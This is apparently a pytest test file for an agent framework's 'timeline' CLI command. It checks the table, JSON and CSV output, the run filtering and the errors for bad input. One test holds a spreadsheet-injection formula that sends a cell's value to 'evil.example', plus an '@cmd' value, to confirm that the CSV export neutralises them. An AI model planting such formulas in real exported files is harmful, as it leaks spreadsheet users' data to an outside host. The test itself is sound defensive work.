"""``python -m agents timeline``: the table, --json, --csv, --run and bad input."""

from __future__ import annotations

import csv
import io
import json

import pytest

from agents import runs, runtime
from agents.nodelog import node_runs
from agents.timing import CSV_COLUMNS, timeline_csv, timeline_json, timeline_of
from dashboard.timeline_tables import stats_table
from tests.factories import answer_robot, insert_parallel_run, run_ids


def _robot_two_runs(store, settings) -> list[str]:
    """The robot paused (run 1) and resumed with yes (run 2); returns the run ids in order."""
    answer_robot(store, settings)
    return run_ids(store)


def test_table_lists_calls_supersteps_and_one_summary_per_run(run_cli, store, settings):
    first, second = _robot_two_runs(store, settings)
    result = run_cli("timeline", "hitl_demo")
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert lines[0] == "node calls (4; start times UTC)"
    assert "supersteps" in lines and "runs" in lines
    calls = lines[2:6]
    assert [line.split()[3] for line in calls] == ["propose", "approval", "approval", "execute"]
    assert [line.split()[-2] for line in calls] == ["ok", "interrupted", "ok", "ok"]
    run_section = lines[lines.index("runs") + 2 :]
    assert [line.split()[0] for line in run_section] == [first, second]
    assert run_section[0].split()[-2:] == ["1", "0"]  # one interrupted call, nothing open


def test_table_shows_the_parallel_speedup(run_cli, store, settings):
    runs.start_run(store, settings, "robot", {})
    insert_parallel_run(store, "hitl_demo")
    out = run_cli("timeline", "hitl_demo", "--run", "par-run").out
    steps = out.splitlines()[out.splitlines().index("supersteps") + 1 :]
    research = next(line for line in steps if line.startswith("par-run  2"))
    assert research.split()[2:] == ["3", "1.0", "s", "3.0", "s", "3.00", "1.00", "research"]
    assert '심화, "quoted"' in out


def test_a_runs_efficiency_is_the_one_the_timeline_page_gives(run_cli, store, settings):
    runs.start_run(store, settings, "robot", {})
    insert_parallel_run(store, "hitl_demo")
    out = run_cli("timeline", "hitl_demo", "--run", "par-run").out.splitlines()
    header, line = out[out.index("runs") + 1 : out.index("runs") + 3]
    assert "efficiency of parallel supersteps" in header
    [whole_run] = [
        row
        for row in stats_table(timeline_of(node_runs(store, run_id="par-run"))).to_dict("records")
        if row["step"] == "whole run"
    ]
    assert line.split()[-4] == f"{whole_run['efficiency']:.2f}"  # the page's whole-run row, not speed-up / tasks


def test_json_is_timing_timeline_json_of_the_thread(run_cli, store, settings):
    _robot_two_runs(store, settings)
    result = run_cli("timeline", "hitl_demo", "--json")
    assert result.code == 0
    data = json.loads(result.out)
    assert data == json.loads(json.dumps(timeline_json(node_runs(store, thread_id="hitl_demo"))))
    assert [row["node"] for row in data["rows"]] == ["propose", "approval", "approval", "execute"]
    assert len(data["runs"]) == 2 and len(data["supersteps"]) == 4


def test_run_option_keeps_only_that_run(run_cli, store, settings):
    first, second = _robot_two_runs(store, settings)
    data = json.loads(run_cli("timeline", "hitl_demo", "--run", second, "--json").out)
    assert {row["run_id"] for row in data["rows"]} == {second}
    assert [row["node"] for row in data["rows"]] == ["approval", "execute"]
    assert [summary["run_id"] for summary in data["runs"]] == [second]


def test_csv_has_the_subagent_log_columns_and_start_end_lines(run_cli, store, settings):
    runs.start_run(store, settings, "robot", {})
    insert_parallel_run(store, "hitl_demo")
    result = run_cli("timeline", "hitl_demo", "--run", "par-run", "--csv")
    assert result.code == 0
    assert result.out == timeline_csv(node_runs(store, run_id="par-run"))
    lines = list(csv.reader(io.StringIO(result.out)))
    assert tuple(lines[0]) == CSV_COLUMNS
    assert lines[0][:4] == ["timestamp", "event", "subagent_name", "duration_sec"]
    assert [line[1] for line in lines[1:]].count("START") == 4
    assert [line[1] for line in lines[1:]].count("END") == 4
    assert ["END", 'research:심화, "quoted"', "1.000000"] in [line[1:4] for line in lines]


def test_csv_gives_a_label_that_a_spreadsheet_would_run_as_a_formula_as_text(run_cli, store, settings):
    runs.start_run(store, settings, "robot", {})
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    with store.transaction() as cursor:
        cursor.execute(
            "INSERT INTO node_log (agent, thread_id, run_id, node, task_id, step, label, started_at, ended_at,"
            " status, error) VALUES ('robot', 'hitl_demo', 'csv-run', 'research', 't-1', -1, ?, 10.0, 11.5,"
            " 'error', '@cmd')",
            (formula,),
        )
    result = run_cli("timeline", "hitl_demo", "--run", "csv-run", "--csv")
    assert result.code == 0, result.err
    [start, end] = list(csv.DictReader(io.StringIO(result.out)))
    assert (start["label"], end["label"], end["error"]) == ("'" + formula, "'" + formula, "'@cmd")
    assert (end["step"], end["duration_sec"]) == ("-1", "1.500000")


def test_thread_without_node_calls_says_so(run_cli, store):
    # A thread that exists only as checkpoints (written by the saver directly, no node log).
    graph = runtime.graph(store, "robot")
    graph.update_state({"configurable": {"thread_id": "bare"}}, {"decision": "no"}, as_node="approval")
    result = run_cli("timeline", "bare")
    assert result.code == 0
    assert result.out.strip() == "no node calls logged for this thread"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("timeline", "nope"), "no thread named 'nope'"),
        (("timeline", "bad id!"), "may contain only letters"),
        (("timeline", "hitl_demo", "--run", "nope"), "has no run 'nope'; its runs: "),
    ],
)
def test_unknown_thread_or_run_exits_2_with_a_clear_message(run_cli, store, settings, args, message):
    runs.start_run(store, settings, "robot", {})
    result = run_cli(*args)
    assert result.code == 2
    assert message in result.err
    assert result.out == ""


def test_json_and_csv_together_are_refused(run_cli, store, settings):
    runs.start_run(store, settings, "robot", {})
    assert run_cli("timeline", "hitl_demo", "--json", "--csv").code == 2
